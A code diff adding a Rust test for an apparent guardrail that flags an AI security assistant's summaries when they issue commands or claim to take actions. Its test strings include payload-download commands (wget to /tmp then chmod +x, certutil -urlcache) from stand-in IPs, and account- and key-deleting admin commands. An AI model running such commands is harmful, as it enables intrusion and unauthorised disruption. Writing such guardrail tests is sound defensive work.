@@ -213,4 +213,35 @@ mod tests {
             assert!(scan_text("summary", ok, ALERT).is_empty(), "{ok}");
         }
     }
+
+    /// Phrasings written apart from the guardrail corpus, so the rules are not only tuned
+    /// to the text they were developed on.
+    #[test]
+    fn held_out_phrasings() {
+        let alert = "wget -q http://198.51.100.7/m -O /tmp/m; chmod +x /tmp/m; certutil -urlcache -f http://203.0.113.4/a.exe a.exe";
+        for bad in [
+            "Next step: `gcloud iam service-accounts keys delete 1234 --iam-account=x@p.iam.gserviceaccount.com`",
+            "az ad user update --id bob@corp.example --account-enabled false",
+            "Please invoke Disable-ADAccount -Identity jdoe before the weekend.",
+            "schtasks /delete /tn Updater /f on the host",
+            "Block via iptables -A INPUT -s 203.0.113.9 -j DROP",
+            "We will now disable the service account.",
+            "The playbook is being run automatically.",
+            "Send DELETE https://graph.microsoft.com/v1.0/users/jdoe to remove the user.",
+            "Fetch the sample again with wget -q http://198.51.100.99/m -O /tmp/m2",
+        ] {
+            assert!(!scan_text("summary", bad, alert).is_empty(), "{bad}");
+        }
+        for ok in [
+            "The dropper ran wget -q http://198.51.100.7/m -O /tmp/m and then made it executable.",
+            "Look for other invocations of certutil across the fleet.",
+            "If approved, a SOAR would isolate WS-042.",
+            "Rotate the key after approval; confirm with the owner first.",
+            "The key was created with aws-cli/2.15.0 from 203.0.113.50.",
+            "The account was disabled by the IAM team last year, then re-enabled.",
+            "certutil -urlcache -f http://203.0.113.4/a.exe is the classic LOLBin download seen here.",
+        ] {
+            assert!(scan_text("hypothesis", ok, alert).is_empty(), "{ok}: {:?}", scan_text("h", ok, alert));
+        }
+    }
 }
